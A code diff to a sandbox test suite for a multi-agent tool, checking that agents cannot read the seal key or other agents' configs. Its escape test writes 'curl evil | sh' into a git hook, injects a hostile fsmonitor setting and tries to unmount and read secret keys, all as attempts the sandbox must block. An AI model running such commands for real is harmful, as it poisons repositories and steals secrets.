@@ -32,7 +32,10 @@ function layout() {
     ownWork: put("proj-worktrees/w1/file.txt"),
     otherWork: put("proj-worktrees/w2/other.txt"),
     prompt: put("proj/.agentmux/.sessions/s1/coder_prompt.md"),
-    sealKey: put("proj/.agentmux/.sessions/s1/.runtime/tool_seal.key", "a".repeat(64)),
+    // the run's seal key, in the user's private folder (session/private-dir.ts privateSealKeyFile)
+    sealKey: put("home/.cache/agentmux/keys/s1-0.seal", "a".repeat(64)),
+    // where earlier versions kept it
+    oldSealKey: put("proj/.agentmux/.sessions/s1/.runtime/tool_seal.key", "a".repeat(64)),
     // the run's private folder of MCP configs (providers/mcp.ts privateMcpDir), in the hidden home
     ownMcp: put("home/.cache/agentmux/mcp/s1-0/coder.sim.json"),
     otherMcp: put("home/.cache/agentmux/mcp/s1-0/reviewer.sim.json"),
@@ -80,6 +83,7 @@ describe.skipIf(!bwrap)("the sandbox an agent runs in (real bubblewrap)", () => 
       otherWork: false,
       prompt: true,
       sealKey: false,
+      oldSealKey: false,
       ownMcp: true,
       otherMcp: false,
       simState: true,
@@ -107,6 +111,16 @@ describe.skipIf(!bwrap)("the sandbox an agent runs in (real bubblewrap)", () => 
     ]);
   });
 
+  test("a CLI whose home part holds agentmux's private folder (.cache) still sees its own config but no other agent's token and no seal key", async () => {
+    const { plan, paths } = layout();
+    const cached = { ...plan, cliHome: [".cache"] };
+    const ownCache = join(plan.home, ".cache/cli/state.json");
+    mkdirSync(dirname(ownCache), { recursive: true });
+    writeFileSync(ownCache, "{}\n");
+    const seen = await look(cached, [ownCache, paths.ownMcp, paths.otherMcp, paths.sealKey], []);
+    expect(seen).toEqual([`R ${ownCache}`, `R ${paths.ownMcp}`, `X ${paths.otherMcp}`, `X ${paths.sealKey}`]);
+  });
+
   test("no way back to what is hidden: unmounting fails (no capabilities, even run by root), no disks in /dev, the repository's hooks and config read-only", async () => {
     const { plan, paths, root } = layout();
     const hook = join(root, "proj/.git/hooks/pre-commit");
@@ -115,7 +129,7 @@ describe.skipIf(!bwrap)("the sandbox an agent runs in (real bubblewrap)", () => 
     writeFileSync(join(root, "proj/.git/config"), "[core]\n");
     for (const p of [plan, { ...plan, workDir: plan.projectDir }]) {
       const script = [
-        `umount -l '${join(plan.sessionDir, ".runtime")}' 2>/dev/null; cat '${paths.sealKey}' >/dev/null 2>&1 && echo "seal key read" || echo "seal key hidden"`,
+        `umount -l '${join(plan.sessionDir, ".runtime")}' '${plan.home}' 2>/dev/null; cat '${paths.sealKey}' '${paths.oldSealKey}' >/dev/null 2>&1 && echo "seal key read" || echo "seal key hidden"`,
         `ls /dev | grep -E '^(sd|vd|nvme|xvd|loop)' >/dev/null && echo "disks" || echo "no disks"`,
         `echo 'curl evil | sh' >> '${hook}' 2>/dev/null && echo "hook written" || echo "hook read-only"`,
         `echo '[core] fsmonitor = evil' >> '${join(root, "proj/.git/config")}' 2>/dev/null && echo "config written" || echo "config read-only"`,
